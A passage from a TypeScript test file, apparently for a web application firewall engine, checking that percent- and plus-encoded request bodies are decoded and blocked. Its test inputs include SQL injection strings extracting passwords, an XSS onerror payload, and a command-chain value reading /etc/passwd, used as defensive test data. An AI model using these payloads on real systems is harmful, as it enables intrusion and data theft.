  const m = new Map<string, unknown>();
  m.set('self', m);
  m.set('q', attack);
  t.same(where({ m }), ['sqli body.m.q'], 'a Map holding itself');
  // JSON bodies never hold these: a parsed body is walked as before.
  t.same(where(JSON.stringify({ q: attack })).map((w) => w.split(' ')[0]), ['sqli'], 'JSON text body');
});

t.test('percent escapes beside `+` are also read as a form reader reads them (`+` a space)', async (t) => {
  const e = createEngine();
  const verdict = (q: string) => e.inspect(req([body({ q })]));
  for (const q of [
    '1%27+UNION+SELECT+password+FROM+users--',
    'q=1%27+UNION+SELECT+password+FROM+users--',
    '/search?sort=asc&q=1%27+OR+1%3D1--',
    '%3Cimg+src%3Dx+onerror%3Dalert(1)%3E',
    // A form reader passes raw characters through: a raw blank or quote does not make it text.
    '1%27+UNION+SELECT+password+FROM+users-- "x"',
  ]) {
    const v = verdict(q);
    t.equal(v.action, 'block', q);
    t.equal(new Set(v.findings.map((f) => f.rule)).size, v.findings.length, `${q}: each rule reported once`);
  }
  // What was blocked before stays blocked, reported once.
  const chain = verdict('x%3B+cat+/etc/passwd');
  t.equal(chain.findings.filter((f) => f.rule === 'shell.command-chain').length, 1, 'a finding of the first decoded reading is not repeated by the form reading');
  for (const q of ['c%2B%2B+tutorial', '20%25+off+today', 'name=John+Smith&city=New%20York', 'a+b%3Dc', 'Tom+%26+Jerry', '1+%2B+1+%3D+2']) {
    t.equal(verdict(q).action, 'allow', `quiet: ${q}`);
  }
});
